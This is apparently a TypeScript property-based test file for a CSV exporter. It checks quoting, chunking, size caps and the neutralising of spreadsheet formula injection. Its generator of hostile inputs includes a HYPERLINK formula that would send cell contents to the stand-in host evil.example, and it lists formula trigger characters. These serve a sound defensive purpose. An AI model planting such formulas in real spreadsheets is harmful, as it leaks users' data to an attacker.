import fc from 'fast-check';
import t from 'tap';
import { boundedCsv, csvChunks, csvField, csvRecord, FORMULA_TRIGGERS, neutraliseFormula, startsWithFormulaTrigger, UTF8_BOM, type Cell } from '../../src/export/csv.js';
import { parseCsv } from './rfc4180.js';

/** Strings biased towards what breaks CSV and spreadsheets, plus any unicode. */
const hostileChar = fc.constantFrom(',', '"', '\r', '\n', '\r\n', '=', '+', '-', '@', '\t', "'", ' ', '＝', '＋', '－', '＠', 'é', '日本', '🙂', '\u0000', '\u2028');
const hostileString = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: fc.oneof(hostileChar, fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 3 })), maxLength: 12 }),
  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2', '@SUM(A1:A9)', '=1+1', '\t=cmd', '\r=cmd', '"quoted"', 'a,b', 'line1\nline2', ''),
);
const cell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 6, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.double({ noNaN: false }) },
  { weight: 1, arbitrary: fc.integer({ min: -1_000_000, max: 1_000_000 }).map((n) => n / 100) },
  { weight: 1, arbitrary: fc.constant(null) },
);

/** What a reader must get back for a cell. */
function expectedText(c: Cell): string {
  if (c === null) return '';
  if (typeof c === 'number') return Number.isFinite(c) ? String(c) : '';
  return startsWithFormulaTrigger(c) ? `'${c}` : c;
}

t.test('property: any table written and parsed back gives the same cells (neutralised text, numbers as written)', async (t) => {
  fc.assert(
    fc.property(fc.integer({ min: 1, max: 6 }).chain((width) => fc.tuple(fc.array(fc.string({ minLength: 1, maxLength: 10 }), { minLength: width, maxLength: width }), fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 20 }))), ([header, rows]) => {
      const text = [...csvChunks(header, rows, { chunkChars: 40 })].join('');
      const parsed = parseCsv(text);
      if (parsed.length !== rows.length + 1) return false;
      const expected = [header.map(expectedText), ...rows.map((r) => r.map(expectedText))];
      return JSON.stringify(parsed) === JSON.stringify(expected);
    }),
    { numRuns: 400 },
  );
  t.pass();
});

t.test('property: no text cell read back starts with a formula trigger; a neutralised cell is the original behind one quote', async (t) => {
  fc.assert(
    fc.property(fc.array(hostileString, { minLength: 1, maxLength: 8 }), (values) => {
      const [row] = parseCsv(csvRecord(values));
      if (row === undefined) return false;
      return row.every((got, i) => {
        const original = values[i] ?? '';
        if (startsWithFormulaTrigger(got)) return false;
        return startsWithFormulaTrigger(original) ? got === `'${original}` : got === original;
      });
    }),
    { numRuns: 1000 },
  );
  t.pass();
});

t.test('property: records end with CRLF; only quoted fields hold commas, quotes, CR or LF', async (t) => {
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 8 }), (cells) => {
      const rec = csvRecord(cells);
      if (!rec.endsWith('\r\n')) return false;
      return cells.every((c) => {
        const f = csvField(c);
        const special = /[",\r\n]/.test(expectedText(c));
        return special ? f.startsWith('"') && f.endsWith('"') && !/[^"]"(?!")/.test(f.slice(1, -1).replace(/""/g, '')) : f === expectedText(c);
      });
    }),
    { numRuns: 1000 },
  );
  t.pass();
});

t.test('formula triggers (OWASP) and what is left alone', async (t) => {
  t.same(FORMULA_TRIGGERS.slice(0, 6), ['=', '+', '-', '@', '\t', '\r']);
  for (const [input, out] of [
    ['=HYPERLINK("http://x","y")', '"\'=HYPERLINK(""http://x"",""y"")"'],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['＝1+1', "'＝1+1"],
    ['a=b', 'a=b'],
    [" =1", ' =1'],
    ["'quoted already", "'quoted already"],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['', ''],
    ['Café 日本 🙂', 'Café 日本 🙂'],
  ] as const) {
    t.equal(csvField(input), out, JSON.stringify(input));
  }
  t.equal(neutraliseFormula('-2'), "'-2", 'a negative-looking tag value is text');
  t.equal(csvField(-2.5), '-2.5', 'a number cell stays a number, sign included');
  t.equal(csvField(0), '0');
  t.equal(csvField(12.3), '12.3');
  t.equal(csvField(Number.NaN), '', 'unknown number: empty');
  t.equal(csvField(Number.POSITIVE_INFINITY), '');
  t.equal(csvField(null), '');
  t.equal(csvRecord(['a', null, 1.5]), 'a,,1.5\r\n');
});

t.test('csvChunks: header first, whole records per chunk, BOM on request, lazy', async (t) => {
  const rows = Array.from({ length: 100 }, (_, i) => [`r${i}`, i]);
  const chunks = [...csvChunks(['name', 'n'], rows, { chunkChars: 100 })];
  t.ok(chunks.length > 5, `several chunks (${chunks.length})`);
  for (const c of chunks) t.ok(c.endsWith('\r\n'), 'a chunk ends on a record boundary');
  t.ok(chunks.every((c) => c.length < 100 + 20), 'a chunk is about chunkChars long');
  t.equal(parseCsv(chunks.join('')).length, 101);
  t.ok(chunks[0]?.startsWith('name,n\r\n'));
  const bom = [...csvChunks(['a'], [], { bom: true })];
  t.same(bom, [`${UTF8_BOM}a\r\n`]);
  t.same([...csvChunks(['a'], [])], ['a\r\n'], 'no rows: header only');

  let pulled = 0;
  function* counting(): Generator<Cell[]> {
    for (let i = 0; i < 1000; i++) {
      pulled += 1;
      yield [`row-${i}`];
    }
  }
  const it = csvChunks(['x'], counting(), { chunkChars: 50 })[Symbol.iterator]();
  it.next();
  t.ok(pulled < 20, `the first chunk pulls only the rows it needs (${pulled})`);
});

t.test('boundedCsv: row cap, byte cap at a record boundary, truncated flag', async (t) => {
  const rows = Array.from({ length: 10 }, (_, i) => [`value-${i}`, 'é']);
  const all = boundedCsv(['a', 'b'], rows, { maxRows: 100, maxBytes: 1_000_000 });
  t.equal(all.row_count, 10);
  t.equal(all.truncated, false);
  t.equal(all.bytes, Buffer.byteLength(all.text, 'utf8'));
  t.equal(parseCsv(all.text).length, 11);

  const capped = boundedCsv(['a', 'b'], rows, { maxRows: 3, maxBytes: 1_000_000 });
  t.equal(capped.row_count, 3);
  t.equal(capped.truncated, true);
  t.same(parseCsv(capped.text).slice(1).map((r) => r[0]), ['value-0', 'value-1', 'value-2']);

  const exact = boundedCsv(['a', 'b'], rows.slice(0, 3), { maxRows: 3, maxBytes: 1_000_000 });
  t.equal(exact.truncated, false, 'exactly max_rows rows is not truncated');

  const header = Buffer.byteLength('a,b\r\n');
  const row = Buffer.byteLength('value-0,é\r\n');
  const bytes = boundedCsv(['a', 'b'], rows, { maxRows: 100, maxBytes: header + 2 * row + row - 1 });
  t.equal(bytes.row_count, 2, 'a record that would cross the byte cap is left out whole');
  t.equal(bytes.truncated, true);
  t.ok(bytes.bytes <= header + 3 * row - 1);

  const none = boundedCsv(['a', 'b'], rows, { maxRows: 0, maxBytes: 1_000_000 });
  t.same([none.text, none.row_count, none.truncated], ['a,b\r\n', 0, true], 'max_rows 0: header only');
  t.same(boundedCsv(['a'], [], { maxRows: 0, maxBytes: 10 }).truncated, false, 'nothing left out when there is nothing');
});
